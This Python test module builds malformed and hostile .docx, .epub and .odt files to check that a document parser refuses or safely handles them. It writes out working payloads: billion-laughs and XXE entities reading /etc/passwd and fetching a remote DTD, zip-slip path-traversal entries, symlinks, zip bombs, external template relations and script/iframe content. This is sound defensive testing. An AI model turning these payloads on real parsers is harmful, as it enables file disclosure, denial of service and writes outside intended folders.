"""Hostile .docx, .epub and .odt: folders in a zip, written by hand where they are to lie."""

from __future__ import annotations

import binascii
import struct
import zlib
from collections.abc import Mapping
from dataclasses import dataclass

from tests.hostile_kinds import (
    DAMAGED,
    MEGABYTE,
    NO_TEXT,
    TOO_MUCH,
    Deflated,
    File,
    Files,
    deflated,
    either,
    refused,
    sentence,
    taken,
)

WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
OFFICE = "urn:oasis:names:tc:opendocument:xmlns:"
ANY = f"{DAMAGED}|{NO_TEXT}|{TOO_MUCH}"
DECLARES = "declares entities"
LOCKED = r"password|encrypt|protected|DRM"


@dataclass(frozen=True, slots=True)
class Part:
    """A file in a zip as it is stored, which need not be as it says it is."""

    stored: bytes
    crc: int
    size: int
    method: int = zlib.DEFLATED
    flags: int = 0x800


def part(content: bytes) -> Part:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return Part(packer.compress(content) + packer.flush(), zlib.crc32(content), len(content))


def bomb(packed: Deflated, size: int | None = None) -> Part:
    return Part(packed.stream, packed.crc, packed.size if size is None else size)


def zipped(parts: Mapping[str, bytes | Part], unix_mode: int = 0o100644) -> bytes:
    """A zip of these files; `unix_mode` can make links of them."""
    files, table = bytearray(), bytearray()
    for name, content in parts.items():
        one = content if isinstance(content, Part) else part(content)
        stored_name = name.encode()
        head = (one.flags, one.method, 0, 33, one.crc, len(one.stored), one.size, len(stored_name), 0)
        table += struct.pack("<4sBB", b"PK\1\2", 20, 3) + struct.pack("<HHHHHIIIHH", 20, *head)
        table += struct.pack("<HHHII", 0, 0, 0, unix_mode << 16, len(files)) + stored_name
        files += struct.pack("<4sHHHHHIIIHH", b"PK\3\4", 20, *head) + stored_name + one.stored
    end = struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, *[min(len(parts), 65_535)] * 2, len(table), len(files), 0)
    return bytes(files + table + end)


def word_xml(body: str, doctype: str = "") -> bytes:
    return f'<?xml version="1.0"?>{doctype}<w:document xmlns:w="{WORD}"><w:body>{body}</w:body></w:document>'.encode()


def word_text(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def docx(document: bytes | Part | None, more: Mapping[str, bytes | Part] | None = None) -> bytes:
    package = "http://schemas.openxmlformats.org/package/2006/"
    main = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    kinds = (
        f'<?xml version="1.0"?><Types xmlns="{package}content-types"><Default Extension="rels" '
        f'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/word/document.xml" ContentType="{main}"/></Types>'
    )
    relations = (
        f'<?xml version="1.0"?><Relationships xmlns="{package}relationships"><Relationship Id="r1" Type="http://'
        f'schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>'
        f"</Relationships>"
    )
    parts: dict[str, bytes | Part] = {"[Content_Types].xml": kinds.encode(), "_rels/.rels": relations.encode()}
    if document is not None:
        parts["word/document.xml"] = document
    return zipped({**parts, **(more or {})})


def epub(chapter: bytes | Part, more: Mapping[str, bytes | Part] | None = None, href: str = "a.xhtml") -> bytes:
    container = (
        '<container version="1.0" xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile '
        'full-path="b/book.opf" media-type="application/oebps-package+xml"/></rootfiles></container>'
    )
    book = (
        '<package version="3.0" xmlns="http://www.idpf.org/2007/opf"><metadata xmlns:dc="http://purl.org/dc/elements/'
        f'1.1/"><dc:title>A book</dc:title></metadata><manifest><item id="a" href="{href}" '
        'media-type="application/xhtml+xml"/></manifest><spine><itemref idref="a"/></spine></package>'
    )
    parts = {"mimetype": b"application/epub+zip", "META-INF/container.xml": container.encode()}
    return zipped({**parts, "b/book.opf": book.encode(), "b/a.xhtml": chapter, **(more or {})})


def chapter(body: str, doctype: str = "") -> bytes:
    title = "<head><title>A</title></head>"
    return (
        f'<?xml version="1.0"?>{doctype}<html xmlns="http://www.w3.org/1999/xhtml">{title}<body>{body}</body></html>'
    ).encode()


def odt_xml(body: str, doctype: str = "") -> bytes:
    names = f'xmlns:office="{OFFICE}office:1.0" xmlns:text="{OFFICE}text:1.0"'
    inside = f"<office:body><office:text>{body}</office:text></office:body>"
    return (
        f'<?xml version="1.0"?>{doctype}<office:document-content {names} office:version="1.2">{inside}'
        "</office:document-content>"
    ).encode()


def odt(content: bytes | Part | None, more: Mapping[str, bytes | Part] | None = None, locked: str = "") -> bytes:
    manifest = (
        f'<manifest:manifest xmlns:manifest="{OFFICE}manifest:1.0"><manifest:file-entry manifest:full-path="/" '
        f'manifest:media-type="application/vnd.oasis.opendocument.text"/><manifest:file-entry '
        f'manifest:full-path="content.xml" manifest:media-type="text/xml">{locked}</manifest:file-entry>'
        f"</manifest:manifest>"
    )
    parts: dict[str, bytes | Part] = {"mimetype": b"application/vnd.oasis.opendocument.text"}
    if content is not None:
        parts["content.xml"] = content
    return zipped({**parts, "META-INF/manifest.xml": manifest.encode(), **(more or {})})


ENTITIES = "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 11))
LAUGHS = f"<!DOCTYPE x [<!ENTITY a0 'ha '>{ENTITIES}]>"
FETCH = (
    "<!DOCTYPE x SYSTEM 'http://203.0.113.1/x.dtd' [<!ENTITY a SYSTEM 'file:///etc/passwd'>"
    "<!ENTITY % b SYSTEM 'http://203.0.113.1/y.dtd'> %b;]>"
)
CLIMBS = {f"{'../' * depth}tmp/debatebot-evil.txt": b"written by a zip" for depth in (1, 4, 12)} | {
    "/tmp/debatebot-evil.txt": b"written by a zip",
    "..\\..\\debatebot-evil.txt": b"written by a zip",
    "C:\\debatebot-evil.txt": b"written by a zip",
}


def packages() -> Files:
    """What goes wrong in the same way in all three formats."""
    for kind, pack, xml, paragraph in (
        ("docx", docx, word_xml, word_text),
        ("epub", epub, chapter, "<p>{}</p>".format),
        ("odt", odt, odt_xml, "<text:p>{}</text:p>".format),
    ):
        own = {name: sentence(f"{name} {kind}") for name in ("good", "climbs", "entity", "many", "cut")}
        good = pack(xml(paragraph(own["good"])))
        yield File(f"good.{kind}", good, taken(own["good"]))
        yield File(f"empty.{kind}", b"", refused("empty"))
        yield File(f"truncated.{kind}", good[: len(good) * 6 // 10], refused(ANY))
        yield File(f"text.{kind}", b"Only words in here.\n", refused(ANY))
        yield File(f"no-files.{kind}", zipped({}), refused(ANY))
        yield File(f"nested.{kind}", zipped({f"inner.{kind}": good}), refused(ANY))
        yield File(f"flipped.{kind}", good[:60] + bytes(byte ^ 0x55 for byte in good[60:140]) + good[140:], either(ANY))
        yield File(f"climbs.{kind}", pack(xml(paragraph(own["climbs"])), CLIMBS), either(ANY, own["climbs"]))
        yield File(f"laughs.{kind}", pack(xml(paragraph("&a10;"), LAUGHS)), either(DECLARES))
        fetched = pack(xml(paragraph(f"{own['entity']} &a;"), FETCH))
        yield File(f"entity.{kind}", fetched, either(DECLARES, own["entity"]))
        yield File(f"cut-xml.{kind}", pack(xml(paragraph(own["cut"]))[:-12]), either(ANY, own["cut"]))
        before, after = xml("@").split(b"@")
        spaces = deflated(before, b" " * MEGABYTE, 1_000, paragraph("End.").encode() + after)
        yield File(f"bomb-spaces.{kind}", pack(bomb(spaces)), refused(ANY))
        small = paragraph("a").encode()
        tags = deflated(before, small * (MEGABYTE // len(small)), 300, after)
        yield File(f"bomb-tags.{kind}", pack(bomb(tags)), refused(ANY))
        yield File(f"lies-small.{kind}", pack(bomb(spaces, size=100)), refused(ANY))
        yield File(f"lies-large.{kind}", pack(Part(part(before).stored, 0, 4_000_000_000)), refused(ANY))
        deep = xml("<x>" * 200_000 + paragraph(sentence("depth")) + "</x>" * 200_000)
        yield File(f"deep.{kind}", pack(deep), either(ANY))
        many = {f"x/{number}": b"" for number in range(60_000)}
        yield File(f"many.{kind}", pack(xml(paragraph(own["many"])), many), either(ANY, own["many"]))
        locked = Part(b"\x13" * 200, 1, 200, flags=0x801)
        yield File(f"locked.{kind}", pack(locked), refused(LOCKED))


def offices() -> Files:
    compound = binascii.unhexlify("d0cf11e0a1b11ae1") + bytes(600)
    encrypted = compound + "EncryptedPackage".encode("utf-16-le") + bytes(4000)
    yield File("password.docx", encrypted, refused(LOCKED))
    yield File(
        "old-word.docx", compound + "WordDocument".encode("utf-16-le") + bytes(4000), refused(rf"{ANY}|\.doc|old")
    )
    yield File("no-document.docx", docx(None), refused(ANY))
    yield File(
        "link.docx",
        zipped({"[Content_Types].xml": b"/etc/passwd", "word/document.xml": b"/etc/passwd"}, 0o120777),
        refused(ANY),
    )
    elsewhere = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        b'Target="http://203.0.113.1/x.dotm" TargetMode="External"/><Relationship Id="r2" Type="http://schemas.open'
        b'xmlformats.org/officeDocument/2006/relationships/image" Target="../../../../etc/passwd"/></Relationships>'
    )
    document = word_xml(word_text(sentence("relations")))
    yield File(
        "relations.docx",
        docx(document, {"word/_rels/document.xml.rels": elsewhere}),
        either(ANY, sentence("relations")),
    )


def books() -> Files:
    text = chapter(f"<p>{sentence('book')}</p>")
    rights = (
        b'<encryption xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><EncryptedData '
        b'xmlns="http://www.w3.org/2001/04/xmlenc#"><EncryptionMethod Algorithm="http://www.w3.org/2001/04/'
        b'xmlenc#aes128-cbc"/><CipherData><CipherReference URI="b/a.xhtml"/></CipherData></EncryptedData></encryption>'
    )
    yield File("rights.epub", epub(bytes(range(7, 250)), {"META-INF/encryption.xml": rights}), refused(LOCKED))
    for place, href in enumerate(
        ("../../../../../../etc/passwd", "/etc/passwd", "file:///etc/passwd", "http://203.0.113.1/")
    ):
        yield File(f"elsewhere-{place}.epub", epub(text, href=href), refused(ANY))
    yield File("no-container.epub", epub(text, {"META-INF/container.xml": b"<container/>"}), refused(ANY))
    scripts = chapter(
        f"<script>document.write('x')</script><iframe src='file:///etc/passwd'></iframe><p>{sentence('scripts')}</p>"
    )
    yield File("scripts.epub", epub(scripts), taken(sentence("scripts")))
    yield File("no-content.odt", odt(None), refused(ANY))
    key = '<manifest:encryption-data manifest:checksum-type="SHA1/1K"/>'
    yield File("password.odt", odt(bytes(range(9, 240)), locked=key), refused(LOCKED))
    counted = odt_xml(f"<text:p>{sentence('spaces')}<text:s text:c='2000000000'/>end</text:p>")
    yield File("counted-spaces.odt", odt(counted), either(ANY, sentence("spaces")))


def zips() -> Files:
    for family in (packages, offices, books):
        yield from family()
